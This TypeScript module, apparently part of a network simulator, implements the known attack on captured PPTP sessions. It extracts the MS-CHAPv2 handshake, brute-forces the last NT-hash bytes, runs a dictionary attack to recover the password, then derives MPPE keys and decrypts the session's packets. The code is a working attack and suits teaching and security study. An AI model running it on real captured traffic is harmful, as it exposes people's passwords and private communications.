/**
 * What an eavesdropper does with a captured PPTP session (Schneier and Mudge 1999, Marlinspike's
 * chapcrack 2012): the MS-CHAPv2 NT-Response is three DES encryptions of an 8-byte challenge hash that
 * the capture itself gives (SHA-1 of both challenges and the user name), under three 7-byte slices of
 * the NT hash, the third slice being two hash bytes and five zeros. So:
 *  1. 65,536 DES tries recover the last two bytes of the NT hash, at once;
 *  2. the first two slices are one 2^56 DES search each (a day on crack.sh's hardware), or, for a
 *     password a person chose, a dictionary: only words whose hash ends in those two bytes need the full
 *     check;
 *  3. the NT hash and the captured NT-Response give the MPPE master key (RFC 3079), so every
 *     encrypted packet of the session can be read.
 * Pure functions over captured IPv4 datagrams; the tap device calls them.
 */
import { bytesEqual, toHex } from "../../crypto/index.ts";
import { challengeHash, challengeResponse, desEncrypt7, ntPasswordHash } from "../../crypto/mschapv2.ts";
import { mppeMasterKey, mppeStartKey } from "../../crypto/mppe_keys.ts";
import { formatIp, type Ip4 } from "../../wire/addr.ts";
import { PPP_COMP } from "../../wire/ccp.ts";
import { decodeChap } from "../../wire/chap.ts";
import { summarize } from "../../wire/dissect.ts";
import { decodeGre, PROTO_GRE } from "../../wire/gre.ts";
import { readIpv4Header } from "../../wire/ipv4.ts";
import { decodePpp, PPP_CHAP, PPP_IP } from "../../wire/ppp.ts";
import { MppeDecryptor } from "../ppp/mppe.ts";

/** One MS-CHAPv2 exchange as the capture shows it. */
export interface CapturedHandshake {
  user: string;
  server: Ip4;
  client: Ip4;
  authenticatorChallenge: Uint8Array;
  peerChallenge: Uint8Array;
  ntResponse: Uint8Array;
}

interface GreFrame {
  src: Ip4;
  dst: Ip4;
  protocol: number;
  payload: Uint8Array;
}

function greFrames(datagrams: readonly Uint8Array[]): GreFrame[] {
  const out: GreFrame[] = [];
  for (const bytes of datagrams) {
    const h = readIpv4Header(bytes);
    if (!h || h.protocol !== PROTO_GRE || h.headerLength > bytes.length) continue;
    const gre = decodeGre(bytes.subarray(h.headerLength, Math.min(h.totalLength, bytes.length)));
    if (!gre.ok || gre.value.payload.length === 0) continue;
    const ppp = decodePpp(gre.value.payload);
    if (ppp.ok) {
      out.push({ src: h.src, dst: h.dst, protocol: ppp.value.protocol, payload: ppp.value.payload });
    }
  }
  return out;
}

/** The first MS-CHAPv2 Challenge and the Response that answers it, if the capture holds both. */
export function findHandshake(datagrams: readonly Uint8Array[]): CapturedHandshake | undefined {
  let challenge: { id: number; value: Uint8Array; server: Ip4 } | undefined;
  for (const frame of greFrames(datagrams)) {
    if (frame.protocol !== PPP_CHAP) continue;
    const chap = decodeChap(frame.payload);
    if (!chap.ok || !("value" in chap.value)) continue;
    const p = chap.value;
    if (p.kind === "challenge" && p.value.length === 16) {
      challenge = { id: p.id, value: p.value, server: frame.src };
    } else if (p.kind === "response" && challenge && p.id === challenge.id && p.value.length === 49) {
      return {
        user: p.name,
        server: challenge.server,
        client: frame.src,
        authenticatorChallenge: challenge.value,
        peerChallenge: p.value.subarray(0, 16),
        ntResponse: p.value.subarray(24, 48),
      };
    }
  }
  return undefined;
}

/** Step 1: the last two NT-hash bytes from the third DES block, and how many keys were tried. */
export function lastTwoHashBytes(h: CapturedHandshake): { bytes: Uint8Array; tries: number } | undefined {
  const c = challengeHash(h.peerChallenge, h.authenticatorChallenge, h.user);
  const third = h.ntResponse.subarray(16, 24);
  const key = new Uint8Array(7);
  for (let k = 0; k < 0x10000; k++) {
    key[0] = k >>> 8;
    key[1] = k & 0xff;
    if (bytesEqual(desEncrypt7(c, key), third)) return { bytes: key.slice(0, 2), tries: k + 1 };
  }
  return undefined;
}

/** Step 2: the word whose NT hash ends in `tail` and reproduces the whole NT-Response. */
export function dictionaryAttack(
  h: CapturedHandshake,
  tail: Uint8Array,
  words: readonly string[],
): { password: string; hash: Uint8Array; checked: number } | undefined {
  const c = challengeHash(h.peerChallenge, h.authenticatorChallenge, h.user);
  let checked = 0;
  for (const word of words) {
    const hash = ntPasswordHash(word);
    if (hash[14] !== tail[0] || hash[15] !== tail[1]) continue;
    checked++;
    if (bytesEqual(challengeResponse(c, hash), h.ntResponse)) return { password: word, hash, checked };
  }
  return undefined;
}

/** Step 3: every MPPE packet of the session, decrypted with keys from the NT hash. */
export function decryptSession(
  h: CapturedHandshake,
  hash: Uint8Array,
  datagrams: readonly Uint8Array[],
): { keys: { clientToServer: string; serverToClient: string }; packets: string[] } {
  const master = mppeMasterKey(hash, h.ntResponse);
  const clientSend = mppeStartKey(master, 16, true, false);
  const serverSend = mppeStartKey(master, 16, true, true);
  const fromClient = new MppeDecryptor(clientSend);
  const fromServer = new MppeDecryptor(serverSend);
  const packets: string[] = [];
  for (const frame of greFrames(datagrams)) {
    if (frame.protocol !== PPP_COMP) continue;
    const way = frame.src === h.client ? fromClient : frame.src === h.server ? fromServer : undefined;
    const plain = way?.decrypt(frame.payload);
    if (!plain?.ok) continue;
    const text = plain.value.protocol === PPP_IP
      ? summarize(plain.value.payload)
      : `PPP protocol ${plain.value.protocol}`;
    packets.push(`${formatIp(frame.src)} → ${formatIp(frame.dst)} MPPE count ${plain.value.count}: ${text}`);
  }
  return { keys: { clientToServer: toHex(clientSend), serverToClient: toHex(serverSend) }, packets };
}
